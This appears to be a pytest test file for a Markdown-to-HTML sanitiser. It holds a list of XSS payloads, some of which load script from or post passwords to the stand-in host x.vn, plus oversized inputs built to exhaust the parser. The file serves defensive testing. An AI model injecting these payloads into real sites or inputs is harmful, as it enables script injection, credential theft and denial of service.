"""Controlled text: what authors write becomes HTML; what attackers write stays text; what is too heavy is refused."""

import contextlib
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qms.core import markdown_text
from qms.core.markdown_text import _ATTRIBUTES, _TAGS, Heading, anchor, check, rendered
from qms.core.refusals import Missing

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//x.vn/a.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//x.vn)'>x</p>",
    "<link rel=stylesheet href=//x.vn>",
    "<meta http-equiv=refresh content='0;url=//x.vn'>",
    "<base href=//x.vn/>",
    "<form action=//x.vn><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<div onclick=alert(1)>x</div>",
    "<b id=x name=y onmouseover=alert(1)>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](http://a.vn\" onmouseover=\"alert(1))",
    "[x](http://a.vn 'a\" onclick=\"alert(1)')",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](x.png)",
    "![x](http://x.vn/dem.png)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<http://a.vn/\"onclick=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\"><script>alert(1)</script>\nx\n~~~",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "# x {onclick=alert(1)}",
    "# \"><img src=x onerror=alert(1)>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^\"><script>]\n\n[^\"><script>]: x",
    "<!-- <script> --> <script>alert(1)</script> -->",
    "<![if !IE]><script>alert(1)</script>",
    "<?php echo 1 ?>",
    "<%00script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x02wzxhzdk:0\x03",
    "*<script>*alert(1)*</script>*",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
]  # fmt: skip
HEAVY = {
    "brackets": "[" * 40_000,
    "links": "[a](" * 20_000,
    "pictures": "![" * 20_000,
    "stars": "*a_ " * 20_000,
    "many stars": "*" * 60_000,
    "underscores": "_" * 60_000,
    "backticks": "`" * 60_000,
    "backticks of many lengths": " ".join("`" * n for n in range(300)),
    "quotes": ">" * 20_000,
    "quotes with spaces": "> " * 20_000,
    "quote lines": ">a\n" * 20_000,
    "lists within lists": "\n".join(" " * 4 * n + "- a" for n in range(200)),
    "lists within lists by twos": "\n".join(" " * 2 * n + "1. a" for n in range(38)),
    "list marks": "- " * 20_000,
    "list": "- a\n" * 10_000,
    "tables": ("|" * 4_000 + "\n" + "|-" * 4_000 + "\n") * 2,
    "table": "|a|b|\n|-|-|\n" + "|1|2|\n" * 10_000,
    "footnotes": "".join(f"[^{n}]" for n in range(2_900)),
    "references": "".join(f"[{n}]: http://a.vn/{n}\n" for n in range(2_900)),
    "fences": "```\n" * 20_000,
    "entities": "&#x41;" * 20_000,
    "angles": "<" * 60_000,
    "tags": "<a " * 20_000,
    "comments": "<!--" * 20_000,
    "cdata": "<![CDATA[" * 10_000,
    "headings": "# a\n" * 5_000,
    "same headings": "## Mục\n\n" * 2_000,
    "setext": "a\n=\n" * 10_000,
    "definitions": "a\n:   b\n\n" * 5_000,
    "tildes": "~~a" * 20_000,
    "one line": "ề" * 80_000,
    "spaces": " " * 100_000 + "a",
    "lines": "\n" * 100_000,
    "rules": "---\n" * 60_000,
    "underlined": "a\n-\n" * 60_000,
    "quoted headings": "> ## a\n" * 30_000,
    "listed headings": "- ## a\n" * 30_000,
    "addresses": "<http://a> " * 20_000,
    "broken lines": "a  \n" * 60_000,
    "emphasis": "*a*" * 80_000,
    "paragraphs": "a\n\n" * 80_000,
    "ampersands": "&amp;" * 50_000,
    "escapes": "\\" * 100_000,
    "control": "\x02\x03" * 20_000,
    "too long": "a" * 300_000,
    "too long in bytes": "ề" * 100_000,
}


def assert_safe(html):
    """Look at the HTML as a browser would: known elements, known attributes, known addresses."""
    for name, inside in re.findall(r"<\s*/?\s*([a-zA-Z][^\s/>]*)([^>]*)>", html):
        assert name in _TAGS, name
        known = _ATTRIBUTES.get(name, set()) | {"a": {"rel"}, "div": {"class", "tabindex"}}.get(name, set())
        for attribute, value in re.findall(r'([^\s="/]+)="([^"]*)"', inside):
            assert attribute in known, (name, attribute)
            if attribute == "href":
                assert re.match(r"(https?:|mailto:|#|/|[^:]*$)", value), value
    assert "<" not in re.sub(r"</?[a-z][a-z0-9]*(\s[^<>]*)?>", "", html)


@pytest.mark.parametrize("text", XSS)
def test_no_script_gets_through(text):
    assert_safe(rendered(text).html)


@pytest.mark.parametrize("text", XSS)
@pytest.mark.parametrize(
    "around",
    ["- {}", "> {}", "1. {}", "**{}**", "| a |\n|---|\n| {} |", "Từ\n:   {}", "[^1]\n\n[^1]: {}", "## {}", "{}" * 3],
)
def test_no_script_gets_through_anywhere(text, around):
    assert_safe(rendered(around.replace("{}", text)).html)


@given(
    st.lists(
        st.sampled_from([*XSS, "\n", "\n\n", "    ", "- ", "> ", "`", "```", "|", "|---|", "[", "](", ")", "<", ">", '"', "'", "&", "#"]),
        max_size=8,
    )
)
@settings(max_examples=60, deadline=None)
def test_no_mixture_gets_through(pieces):
    with contextlib.suppress(Missing):
        assert_safe(rendered("".join(pieces)).html)


@given(st.text(max_size=120))
@settings(max_examples=60, deadline=None)
def test_any_text_is_rendered(text):
    with contextlib.suppress(Missing):
        assert_safe(rendered(text).html)


@given(st.text(alphabet="[]()<>!*_`~#|-:>\n &\\^'\"a1", max_size=120))
@settings(max_examples=60, deadline=None)
def test_any_marks_are_rendered(text):
    with contextlib.suppress(Missing):
        assert_safe(rendered(text).html)


def test_table_that_would_grow_a_thousandfold_is_refused():
    wide, tall = "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n", "|x|\n" * 5_000
    with pytest.raises(Missing, match="Bảng quá lớn"):
        check(wide + tall)
    check(f"{wide}\n{tall}")
    check("|a|b|c|d|e|f|g|h|\n|-|-|-|-|-|-|-|-|\n" + "|1|2|3|4|5|6|7|8|\n" * 4_000)


@pytest.mark.parametrize("text", HEAVY.values(), ids=HEAVY)
def test_heavy_text_is_rendered_or_refused(text):
    with contextlib.suppress(Missing):
        assert_safe(rendered(text).html)


def test_raw_html_is_shown_as_it_was_written():
    assert "&lt;u&gt;gạch chân&lt;/u&gt;" in rendered("<u>gạch chân</u>").html


def test_authors_get_what_they_write():
    text = "## Mục đích\n\n**Đậm**, *nghiêng*, ~~bỏ~~, `mã`.\n\n1. một\n2. hai\n\n> trích\n\nTừ\n:   nghĩa\n\n```\nkhối\n```\n"
    html = rendered(text).html
    for piece in ("<strong>Đậm</strong>", "<em>nghiêng</em>", "<del>bỏ</del>", "<code>mã</code>", "<ol>", "<blockquote>", "<dt>Từ</dt>",
                  "<pre><code>khối"):  # fmt: skip
        assert piece in html


def test_tables_scroll_in_a_box_of_their_own():
    html = rendered("| TT | Tên |\n|---|:-:|\n| 1 | Đơn |\n").html
    assert html.count('<div class="scroll" tabindex="0"><table>') == html.count("</table></div>") == 1
    assert '<td align="center">Đơn</td>' in html


def test_page_keeps_its_one_h1():
    html = rendered("# Tên\n\n## Mục").html
    assert "<h1" not in html
    assert html.count("<h2") == html.count("</h2>") == 2


def test_footnotes_lead_there_and_back():
    html = rendered("Câu.[^1]\n\n[^1]: Chú thích.").html
    for target in re.findall(r'href="#([^"]+)"', html):
        assert f'id="{target}"' in html


def test_links_outside_do_not_hand_over_the_page():
    assert rendered("[Cổng](https://dichvucong.gov.vn)").html.count('rel="noopener"') == 1
    assert 'href="mailto:a@b.vn"' in rendered("[thư](mailto:a@b.vn)").html


def test_headings_with_addresses_without_marks():
    found = rendered("## Mục đích\n\n### 5.2 Thành phần & hồ sơ\n\n## Mục đích\n").headings
    assert found == (
        Heading(2, "muc-muc-dich", "Mục đích"),
        Heading(3, "muc-5-2-thanh-phan-ho-so", "5.2 Thành phần & hồ sơ"),
        Heading(2, "muc-muc-dich_1", "Mục đích"),
    )
    assert 'id="muc-5-2-thanh-phan-ho-so"' in rendered("### 5.2 Thành phần & hồ sơ").html


def test_headings_are_plain_text():
    (only,) = rendered("## **Đậm** và `<b>`").headings
    assert only.text == "Đậm và <b>"


@given(st.text(max_size=60))
def test_address_of_a_heading_is_plain(text):
    assert re.fullmatch(r"muc-[a-z0-9-]*", anchor(text))


def test_same_text_is_rendered_once():
    rendered("một lần")
    before = markdown_text.rendered.cache_info().hits
    assert rendered("một lần") is rendered("một lần")
    assert markdown_text.rendered.cache_info().hits == before + 2


@pytest.mark.parametrize(
    "text",
    [
        "a" * (256 * 1024 + 1),
        "ề" * (256 * 1024 // 3 + 1),
        "[" * 3001,
        "[a]" * 3001,
        ">" * 20,
        "> " * 20,
        "<" * 3001,
        " " * 81 + "- a",
        "`" * 6001,
        "a\n" * 10_001,
        "# a\n" * 1001,
        "a\n=\n" * 1001,
        "- # a\n" * 1001,
        "*a*" * 5001,
        "_" * 30_001,
    ],
)
def test_bounds(text):
    with pytest.raises(Missing, match="Văn bản"):
        check(text)


@pytest.mark.parametrize(
    "text",
    [
        "a" * 256 * 1024,
        "[a] " * 3000,
        "> " * 5,
        " " * 80 + "- a",
        " " * 90 + "a",
        " " * 90,
        "a\n" * 10_000,
        "# a\n\n" * 1000,
        "_" * 20_000,
        "- a\n" * 5000,
        "| a |\n" * 9000,
    ],
)
def test_within_bounds(text):
    check(text)
